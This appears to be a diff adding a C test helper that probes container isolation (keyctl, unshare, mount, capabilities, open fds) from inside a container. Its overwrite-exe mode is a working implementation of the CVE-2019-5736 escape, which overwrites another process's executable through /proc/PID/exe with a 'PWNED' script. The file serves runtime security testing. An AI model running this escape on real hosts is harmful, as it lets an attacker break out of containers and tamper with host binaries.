@@ -1,0 +1,176 @@
+/* sysprobe: makes one syscall (or one attack step) and prints what happened,
+ * for tests that run it inside a container (busybox has no keyctl, no raw
+ * mount(2), no way to print its own capabilities after exec).
+ *
+ *   sysprobe keyctl             keyctl(KEYCTL_GET_KEYRING_ID, session)
+ *   sysprobe unshare HEXFLAGS   unshare(flags)
+ *   sysprobe mount              mount("none", "/mnt", "tmpfs", 0, "")
+ *   sysprobe personality N      personality(N)
+ *   sysprobe kill PID SIG       kill(PID, SIG)
+ *   sysprobe status             the Cap*, NoNewPrivs and Seccomp lines of /proc/self/status
+ *   sysprobe fds                every open fd of this process with its target
+ *   sysprobe open PATH MODE     open(PATH, r|w|path)
+ *   sysprobe dumpable           prctl(PR_GET_DUMPABLE)
+ *   sysprobe overwrite-exe SECS for SECS seconds, opens /proc/PID/exe of every other
+ *                               process O_PATH and tries to re-open it for writing
+ *                               (CVE-2019-5736); writes a marker when it succeeds,
+ *                               else prints how many processes refused the open
+ *
+ * A syscall result is printed as "ok <ret>" or "errno <n> <text>"; exit status 0
+ * unless the usage is wrong (2). Standalone: plain libc only. */
+#ifndef _GNU_SOURCE
+#define _GNU_SOURCE
+#endif
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/keyctl.h>
+#include <sched.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/personality.h>
+#include <sys/prctl.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+static int report(long rc)
+{
+	if (rc < 0)
+		printf("errno %d %s\n", errno, strerror(errno));
+	else
+		printf("ok %ld\n", rc);
+	return 0;
+}
+
+static int print_status(void)
+{
+	FILE *f = fopen("/proc/self/status", "re");
+	if (!f)
+		return report(-1);
+	char line[512];
+	while (fgets(line, sizeof(line), f))
+		if (!strncmp(line, "Cap", 3) || !strncmp(line, "NoNewPrivs", 10) ||
+		    !strncmp(line, "Seccomp", 7) || !strncmp(line, "Uid", 3))
+			fputs(line, stdout);
+	fclose(f);
+	return 0;
+}
+
+static int print_fds(void)
+{
+	DIR *d = opendir("/proc/self/fd");
+	if (!d)
+		return report(-1);
+	int self = dirfd(d);
+	struct dirent *de;
+	while ((de = readdir(d))) {
+		if (de->d_name[0] == '.' || atoi(de->d_name) == self)
+			continue;
+		char target[4096];
+		ssize_t n = readlinkat(self, de->d_name, target, sizeof(target) - 1);
+		target[n < 0 ? 0 : n] = 0;
+		printf("fd %s -> %s\n", de->d_name, target);
+	}
+	closedir(d);
+	return 0;
+}
+
+/* The CVE-2019-5736 attack: get an O_PATH handle on another process' exe
+ * while it is open, then re-open it for writing (fails with ETXTBSY while the
+ * binary runs, succeeds once it exited unless the handle was refused). */
+static int overwrite_exe(int secs)
+{
+	pid_t me = getpid();
+	time_t end = time(NULL) + secs;
+	int handles[4096], nh = 0, opened = 0, denied = 0, last_denied = 0;
+	while (time(NULL) < end) {
+		DIR *d = opendir("/proc");
+		struct dirent *de;
+		while (d && (de = readdir(d))) {
+			int pid = atoi(de->d_name);
+			if (pid <= 0 || pid == me)
+				continue;
+			char p[64];
+			snprintf(p, sizeof(p), "/proc/%d/exe", pid);
+			int fd = open(p, O_PATH | O_CLOEXEC);
+			if (fd < 0) {
+				/* seen, but refused: the runtime is non-dumpable */
+				if ((errno == EACCES || errno == EPERM) && pid != last_denied) {
+					denied++;
+					last_denied = pid;
+				}
+				continue;
+			}
+			/* what the handle holds (the process may have exec'd
+			 * or exited since: ask the handle, not the pid) */
+			char fdp[64], target[4096];
+			snprintf(fdp, sizeof(fdp), "/proc/self/fd/%d", fd);
+			ssize_t n = readlink(fdp, target, sizeof(target) - 1);
+			target[n < 0 ? 0 : n] = 0;
+			/* only binaries that are not the container's own */
+			if (n <= 0 || strstr(target, "busybox") || strstr(target, "sysprobe") ||
+			    nh >= (int)(sizeof(handles) / sizeof(handles[0]))) {
+				close(fd);
+				continue;
+			}
+			printf("handle on /proc/%d/exe -> %s\n", pid, target);
+			fflush(stdout);
+			handles[nh++] = fd;
+			opened++;
+		}
+		if (d)
+			closedir(d);
+		for (int i = 0; i < nh; i++) {
+			char p[64];
+			snprintf(p, sizeof(p), "/proc/self/fd/%d", handles[i]);
+			int w = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
+			if (w >= 0) {
+				(void)!write(w, "#!/bin/sh\necho PWNED\n", 21);
+				close(w);
+				printf("OVERWROTE exe via handle %d\n", handles[i]);
+				return 0;
+			}
+		}
+	}
+	printf("no overwrite (%d handles, %d processes refused)\n", opened, denied);
+	return 0;
+}
+
+int main(int argc, char **argv)
+{
+	setvbuf(stdout, NULL, _IOLBF, 0);
+	if (argc < 2)
+		goto usage;
+	const char *cmd = argv[1];
+	if (!strcmp(cmd, "keyctl"))
+		return report(syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID,
+				      KEY_SPEC_SESSION_KEYRING, 0));
+	if (!strcmp(cmd, "unshare") && argc == 3)
+		return report(unshare((int)strtol(argv[2], NULL, 16)));
+	if (!strcmp(cmd, "mount"))
+		return report(mount("none", "/mnt", "tmpfs", 0, ""));
+	if (!strcmp(cmd, "personality") && argc == 3)
+		return report(syscall(SYS_personality, strtoul(argv[2], NULL, 0)));
+	if (!strcmp(cmd, "kill") && argc == 4)
+		return report(kill(atoi(argv[2]), atoi(argv[3])));
+	if (!strcmp(cmd, "status"))
+		return print_status();
+	if (!strcmp(cmd, "fds"))
+		return print_fds();
+	if (!strcmp(cmd, "open") && argc == 4) {
+		int fl = argv[3][0] == 'w' ? O_WRONLY : argv[3][0] == 'p' ? O_PATH : O_RDONLY;
+		return report(open(argv[2], fl | O_CLOEXEC));
+	}
+	if (!strcmp(cmd, "dumpable"))
+		return report(prctl(PR_GET_DUMPABLE, 0, 0, 0, 0));
+	if (!strcmp(cmd, "overwrite-exe") && argc == 3)
+		return overwrite_exe(atoi(argv[2]));
+usage:
+	fprintf(stderr, "usage: sysprobe keyctl|unshare HEX|mount|personality N|kill PID SIG|"
+			"status|fds|open PATH r|w|p|dumpable|overwrite-exe SECS\n");
+	return 2;
+}
